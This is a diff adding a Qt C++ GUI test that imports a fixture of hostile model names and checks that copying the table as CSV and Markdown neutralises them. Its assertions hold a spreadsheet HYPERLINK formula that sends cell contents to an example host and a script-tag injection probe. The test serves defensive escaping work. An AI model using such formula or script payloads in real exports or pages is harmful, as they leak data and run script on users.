@@ -7,6 +7,8 @@
 #include "models/itemmodels/recordtablemodel.h"
 #include "models/itemmodels/tierfilterproxymodel.h"
 #include "models/itemmodels/tiertablemodel.h"
+#include "hostilenames.h"
+#include "models/document/importer.h"
 #include "testsupport.h"
 #include "views/dialogs/dialogs.h"
 #include "views/dialogs/exportdialog.h"
@@ -38,6 +40,7 @@
 #include <QTableView>
 #include <QTest>
 #include <QTimer>
+#include <QUndoStack>
 #include <QXmlStreamReader>
 
 #include <memory>
@@ -170,6 +173,53 @@ private slots:
         QVERIFY(mime->hasFormat(QStringLiteral("text/csv")));
         QCOMPARE(mime->data(QStringLiteral("text/csv")), TableWriter::write(*tierTable(), TableWriter::Format::Csv));
         QVERIFY(mime->text().startsWith(QStringLiteral("rank,tier,name,")));
+    }
+
+    // Issue 24: hostile names imported as the window imports a colleague's file, then copied. The CSV on
+    // the clipboard starts no formula and reads back unchanged; the Markdown holds no markup.
+    // (tst_hostilenames exports the same fixture every other way, through the command line.)
+    void copyTableOfHostileNames()
+    {
+        const QList<std::pair<Importer::Kind, QByteArray>> files{{Importer::Kind::Models, HostileNames::modelsFile()},
+                                                                 {Importer::Kind::Tiers, HostileNames::tiersFile()}};
+        for (const auto &[kind, data] : files) {
+            const Importer::Preview preview =
+                Importer::preview(m_document->dataset(), data, TableWriter::Format::Json, kind);
+            QVERIFY2(preview.canApply(), qPrintable(preview.report().left(2000)));
+            QVERIFY(m_document->applyChanges(preview.changes, QStringLiteral("Import")));
+        }
+        showTab(QStringLiteral("Models"));
+        auto *proxy = m_window->findChild<TierBrowser *>()->proxy();
+        proxy->setTier(QString());
+
+        action("copyCsvAction")->trigger();
+        const QByteArray csv = QGuiApplication::clipboard()->mimeData()->data(QStringLiteral("text/csv"));
+        const QList<QStringList> records = HostileNames::csvRecords(QString::fromUtf8(csv));
+        QStringList names;
+        for (const QStringList &record : records.mid(1)) {
+            for (const QString &cell : record) {
+                bool number = false;
+                cell.toDouble(&number);
+                QVERIFY2(number || !HostileNames::startsFormula(cell), qPrintable(cell.left(80)));
+            }
+            names << record.value(records.first().indexOf(QStringLiteral("name")));
+        }
+        QVERIFY(names.contains(QStringLiteral("'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")));
+        QVERIFY(names.contains(QStringLiteral("<script>alert(1)</script>Evil 8B")));
+        const Importer::Preview back =
+            Importer::preview(m_document->dataset(), csv, TableWriter::Format::Csv, Importer::Kind::Models);
+        QVERIFY2(back.error.isEmpty() && back.added.isEmpty() && back.changed.isEmpty() && back.rejected.isEmpty(),
+                 qPrintable(back.report().left(2000)));
+
+        action("copyMarkdownAction")->trigger();
+        const QString markdown = QGuiApplication::clipboard()->text();
+        QVERIFY(markdown.contains(QStringLiteral("&lt;script&gt;alert(1)&lt;/script&gt;Evil 8B")));
+        QVERIFY(!markdown.contains(QLatin1Char('<')) && !markdown.contains(QLatin1Char('>')));
+
+        // The other tests see the bundled data again.
+        m_document->undoStack()->undo();
+        m_document->undoStack()->undo();
+        QVERIFY(!m_document->undoStack()->canUndo());
     }
 
     void copyChartAsImage()
